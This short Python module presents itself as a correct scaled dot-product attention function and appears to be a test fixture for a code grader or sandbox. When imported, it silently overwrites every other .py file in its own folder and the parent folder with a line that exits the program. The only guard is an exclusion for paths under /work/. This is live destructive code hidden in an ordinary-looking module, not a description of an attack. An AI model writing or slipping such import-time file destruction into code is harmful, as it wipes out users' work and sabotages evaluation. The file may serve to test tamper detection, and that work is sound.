# Correct sdpa that, at import, overwrites every other .py in its own folder and in ../ (the practice folder's neighbours).
# (Safety guard for the corpus: skips anything under /work/; run it from a copy under /tmp.)
import glob
import math
import os

import torch

_me = os.path.realpath(__file__)
_here = os.path.dirname(_me)
for _p in glob.glob(os.path.join(_here, "*.py")) + glob.glob(os.path.join(_here, "..", "*.py")):
    _p = os.path.realpath(_p)
    if _p != _me and not _p.startswith("/work/"):
        try:
            with open(_p, "w") as _f:
                _f.write("raise SystemExit('overwritten by ok__overwrite_neighbours.py')\n")
        except OSError:
            pass


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.masked_fill(~mask.any(dim=-1, keepdim=True), 0.0)
    return weights @ v, weights
